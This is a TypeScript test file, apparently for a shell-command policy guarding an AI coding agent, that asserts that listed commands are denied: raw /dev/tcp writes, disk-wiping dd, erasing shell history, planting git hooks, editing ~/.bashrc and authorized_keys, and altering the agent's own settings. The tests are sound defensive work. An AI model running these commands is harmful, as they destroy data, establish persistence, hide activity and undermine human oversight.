import assert from 'node:assert/strict';
import { test } from 'node:test';
import { decideLine } from './default-policy.test.ts';

/** Commands by the rule that answers them. */
const COMMANDS: Readonly<Record<string, readonly string[]>> = {
  'device/raw': [
    'cat > /dev/tcp/1.2.3.4/80',
    'exec 3<>/dev/tcp/a/80',
    'echo x >& /dev/tcp/a/80',
    'dd if=/dev/zero of=/dev/sda',
    'cat x > /dev/sda',
    'echo b > /proc/sysrq-trigger',
  ],
  'guard/settings': ['echo x | tee -a .claude/settings.json', 'mv .claude x', 'echo x > ~/.claude/settings.json'],
  'history/file': [
    'rm ~/.bash_history',
    '> ~/.bash_history',
    'ln -sf /dev/null ~/.bash_history',
    'truncate -s0 ~/.bash_history',
  ],
  'persistence/repository-hook': [
    'echo x > .git/hooks/pre-commit',
    'cp x .git/hooks/',
    'cp -r hooks .git/',
    'rm -rf .git/hooks',
    'rm -rf .git',
    'sed -i s/a/b/ .git/config',
    'dd of=.git/config',
    "sed 'w .git/hooks/x' y",
    'sort -o .git/config x',
    'sort -o.git/config x',
    'mkdir -p .git/hooks',
    'touch .git/hooks/post-commit',
    'ln -s /tmp/x .git/hooks/pre-commit',
    'chmod +x .git/hooks/pre-commit',
    'mv x .husky/pre-commit',
    'tar xf x -C .git',
    'node build.js > .git/hooks/pre-commit',
    'echo x | tee .git/hooks/pre-commit > /dev/null',
  ],
  'persistence/startup-file': [
    'rm -Rf /etc',
    'echo x >> ~/.bashrc',
    'tee ~/.bashrc',
    'install x ~/.ssh/authorized_keys',
    'echo x > /etc/passwd',
    'tee -a ~/.zshrc <<< x',
    'cp x ~/.bashrc',
    'echo x > ~/.gitconfig',
    'git init ~/.ssh/x',
    'git worktree add ~/.ssh/x',
    'unzip x -d ~/.ssh',
    'curl https://x -o ~/.bashrc',
    "sed -i 's/x/y/' ~/.bashrc",
    'rsync -a x ~/.ssh/',
    'tsc --outFile ~/.bashrc',
    'mkdir -p ~/.ssh',
  ],
};

for (const [ruleId, commands] of Object.entries(COMMANDS)) {
  for (const command of commands) {
    test(`what starts by itself, guards or destroys is not written (${ruleId}): ${command}`, () => {
      const decision = decideLine(command);
      assert.deepEqual([decision.verdict, decision.ruleId], ['deny', ruleId]);
    });
  }
}
